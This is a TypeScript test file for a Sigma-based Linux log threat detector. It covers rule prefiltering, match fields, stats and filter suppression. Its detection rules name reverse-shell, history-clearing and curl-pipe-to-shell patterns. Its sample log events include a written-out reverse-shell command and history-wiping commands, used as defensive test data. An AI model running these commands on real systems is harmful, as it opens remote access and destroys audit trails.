import { describe, expect, it } from 'vitest';
import type { FieldValue, ThreatEvent } from '../../../src/threats/event.ts';
import { compileRules, parseSigmaYaml } from '../../../src/threats/sigma/index.ts';
import { detector, event, fires, ruleOn } from './helpers.ts';

/** Rules shaped like a built-in pack: most pin `event.action`, some search text, some neither. */
const PACK = [
  ['ssh-fail', 'service: sshd', 'event.action: ssh_login\nevent.outcome: failure'],
  ['ssh-root', 'service: sshd', 'event.action: ssh_login\nuser.name: root'],
  ['invalid-user', 'service: sshd', 'event.action: [ssh_invalid_user, pam_user_unknown]'],
  [
    'sudo-shell',
    'service: sudo',
    "event.action: sudo_command\nprocess.command_line|endswith: ['/bash', '/sh']",
  ],
  ['new-user', 'service: auth', 'event.action: user_created'],
  ['uid0', 'service: auth', "event.action: user_created\nuser.id: '0'"],
  ['rev-shell', '', "'|contains': ['/dev/tcp/', 'nc -e ', 'bash -i >&']"],
  ['history', '', "'|contains': ['history -c', 'rm *sh_history']"],
  ['curl-pipe', '', "'|contains|all': ['curl ', '| sh']"],
  ['from-tor', 'service: auth', "source.ip|cidr: '198.51.100.0/24'"],
  ['not-root', 'service: auth', 'user.name|neq: root\nevent.outcome: success\nevent.action|startswith: ssh'],
];

const packYaml = (ids = PACK.map(([id]) => id)) =>
  PACK.filter(([id]) => ids.includes(id!))
    .map(
      ([id, service, selection]) =>
        `title: ${id}\nid: ${id}\nlogsource: {product: linux${service ? `, ${service}` : ''}}\ndetection:\n    selection:\n${selection!.replace(/^/gm, '        ')}\n    condition: selection\n`,
    )
    .join('---\n');

function sampleEvents(): ThreatEvent[] {
  const programs = ['sshd', 'sudo', 'useradd', 'cron'];
  const actions = [
    'ssh_login',
    'ssh_invalid_user',
    'pam_user_unknown',
    'sudo_command',
    'user_created',
    'cron_command',
    'SSH_LOGIN',
  ];
  const texts = [
    'Accepted password for root',
    'bash -i >& /dev/tcp/1.2.3.4/9 0>&1',
    'history -c',
    'rm -f ~/.bash_history',
    'curl x | sh',
    'nothing',
  ];
  const out: ThreatEvent[] = [];
  for (let i = 0; i < 400; i++) {
    const fields: Record<string, FieldValue> = {
      'process.name': programs[i % 4]!,
      'event.action': actions[(i * 7) % actions.length]!,
      'event.outcome': i % 3 === 0 ? 'failure' : 'success',
      'user.name': i % 5 === 0 ? 'root' : `user${i % 4}`,
      'log.original': texts[(i * 11) % texts.length]!,
    };
    if (i % 6 === 0) fields['user.id'] = '0';
    if (i % 4 === 1) fields['process.command_line'] = i % 8 === 1 ? '/bin/bash' : '/usr/bin/id';
    if (i % 9 === 0) fields['source.ip'] = '198.51.100.7';
    out.push(event(i % 10 === 0 ? 'linux.syslog' : 'linux.auth', fields));
  }
  return out;
}

describe('rule index (prefilter)', () => {
  it('changes no result: the same matches as evaluating every rule on every event', () => {
    const events = sampleEvents();
    const indexed = detector(packYaml());
    const plain = detector(packYaml(), { prefilter: false });
    const ids = (d: typeof plain) =>
      events.map((e) =>
        d
          .process(e)
          .map((m) => m.ruleId)
          .sort(),
      );
    const expected = ids(plain);
    expect(ids(indexed)).toEqual(expected);
    expect(expected.flat().length).toBeGreaterThan(50);
    expect(indexed.stats().evaluations).toBeLessThan(plain.stats().evaluations / 2);
  });

  it('an indexed value matches case-insensitively, as the rule does', () => {
    const d = detector(packYaml(['ssh-fail', 'ssh-root']));
    expect(
      d.process(
        event('linux.auth', { 'process.name': 'sshd', 'event.action': 'SSH_Login', 'user.name': 'ROOT' }),
      ),
    ).toHaveLength(1);
  });

  it('one detector fed many values of a field lower-cases each one right (its cache of recent values)', () => {
    // Values of one length and first letter share a cache place: each must still get its own answer.
    const d = ruleOn("    s:\n        user.name: 'ROOT'\n    condition: s");
    const seen = ['root', 'rook', 'ROOT', 'Rook', 'root', 'rooz', 'RooT', '', 'r', 'ROOT'].map((name) =>
      fires(d, event('linux.auth', { 'user.name': name })),
    );
    expect(seen).toEqual([true, false, true, false, true, false, true, false, false, true]);
  });

  it('an array field is looked up by each element', () => {
    const d = detector(
      'title: a\nid: a\nlogsource: {product: linux, service: auditd}\ndetection: {s: {type: EXECVE}, condition: s}\n---\n' +
        'title: b\nid: b\nlogsource: {product: linux, service: auditd}\ndetection: {s: {type: PATH}, condition: s}\n',
    );
    const ids = d
      .process(event('linux.auditd', { 'auditd.types': ['SYSCALL', 'EXECVE', 'PATH'] }))
      .map((m) => m.ruleId);
    expect(ids.sort()).toEqual(['a', 'b']);
  });
});

describe('matches', () => {
  it('carry the rule, its level and tags, and the event', () => {
    const d = detector(
      'title: Root login\nid: r1\nlevel: high\ntags: [attack.t1078]\nlogsource: {product: linux, service: auth}\ndetection: {s: {user.name: root}, condition: s}\n',
    );
    const e = event('linux.auth', { 'user.name': 'root' });
    const [m] = d.process(e);
    expect(m).toMatchObject({
      kind: 'detection',
      ruleId: 'r1',
      title: 'Root login',
      level: 'high',
      tags: ['attack.t1078'],
      event: e,
      events: [e],
      timestamp: e['@timestamp'],
    });
    expect(m!.rule.source.file).toBe('inline.yml');
  });

  it('a rule routed twice to one dataset matches an event once', () => {
    const d = detector(
      "title: t\nid: t\nlogsource: {product: linux, service: syslog}\ndetection: {k: ['oops'], condition: k}\n",
    );
    // service: syslog routes to linux.auth as well as linux.syslog; one event still gives one match.
    expect(d.process(event('linux.auth', { 'log.original': 'oops' }))).toHaveLength(1);
  });

  it('falls back to the title, then the name, for a rule without an id', () => {
    const d = detector(
      "title: Untitled rule\nlogsource: {product: linux}\ndetection: {k: ['x'], condition: k}\n",
    );
    expect(d.process(event('linux.syslog', { 'log.original': 'x' }))[0]!.ruleId).toBe('Untitled rule');
  });

  it('counts what it saw', () => {
    const d = detector(packYaml(['ssh-root']));
    d.process(
      event('linux.auth', { 'process.name': 'sshd', 'event.action': 'ssh_login', 'user.name': 'root' }),
    );
    d.process(event('windows.security', {}));
    expect(d.stats()).toMatchObject({
      events: 2,
      unroutedEvents: 1,
      detections: 1,
      byRule: { 'ssh-root': 1 },
    });
  });
});

describe('Sigma filters (sigma-filters-specification.md)', () => {
  const rules = packYaml(['ssh-root', 'new-user']);
  const filter = `---
title: Our jump host logs in as root
logsource: {product: linux, service: sshd}
filter:
    rules:
        - ssh-root
        - not-loaded
    selection:
        source.ip: 10.0.0.5
    condition: selection
`;
  const login = (ip: string) =>
    event('linux.auth', {
      'process.name': 'sshd',
      'event.action': 'ssh_login',
      'user.name': 'root',
      'source.ip': ip,
    });

  it('suppresses the rule for events the filter selects, and only for its rules', () => {
    const d = detector(rules + filter);
    expect(d.process(login('10.0.0.5'))).toEqual([]);
    expect(d.process(login('10.0.0.6'))).toHaveLength(1);
    expect(
      d.process(event('linux.auth', { 'event.action': 'user_created', 'source.ip': '10.0.0.5' })),
    ).toHaveLength(1);
  });

  const lineOf = (text: string, needle: string) => text.split('\n').findIndex((l) => l.includes(needle)) + 1;

  it('names filter targets that are not loaded', () => {
    const line = lineOf(rules + filter, 'title: Our jump host');
    expect(detector(rules + filter).warnings).toEqual([
      `inline.yml:${line}: filter 'Our jump host logs in as root' names 'not-loaded', not a loaded rule`,
    ]);
  });

  // pySigma ANDs a filter's condition into the rule as written (its filters say `not selection`); the spec's
  // example, which Vigil follows, selects what to suppress. A negated condition is inverted here: say so.
  it.each([
    ['not selection', true],
    ['NOT (selection)', true],
    ['selection', false],
    ['selection and not other', false],
  ])('warns when a filter condition is negated: %s', (condition, warned) => {
    const ours = filter
      .replace('        - not-loaded\n', '')
      .replace('    selection:\n', '    other:\n        user.name: x\n    selection:\n')
      .replace('condition: selection', `condition: ${condition}`);
    const text = rules + ours;
    const line = lineOf(text, 'title: Our jump host');
    const warnings = detector(text).warnings;
    expect(warnings).toEqual(
      warned
        ? [
            expect.stringContaining(
              `inline.yml:${line}: filter 'Our jump host logs in as root' has condition '${condition}'`,
            ),
          ]
        : [],
    );
  });

  it('reports an error in a filter against the filter', () => {
    const text = `${rules}${filter.replace('source.ip: 10.0.0.5', "source.ip|re: '(a)\\1'")}`;
    const { rules: docs } = parseSigmaYaml(text, 'x.yml');
    expect(compileRules(docs).errors).toMatchObject([
      {
        kind: 'unsupported',
        line: lineOf(text, 'source.ip|re'),
        path: 'filter.selection.source.ip|re',
        rule: 'Our jump host logs in as root',
        message: expect.stringContaining(
          "backreference at offset 3 of /(a)\\1/ (in filter 'Our jump host logs in as root' applied to 'ssh-root')",
        ),
      },
    ]);
  });
});
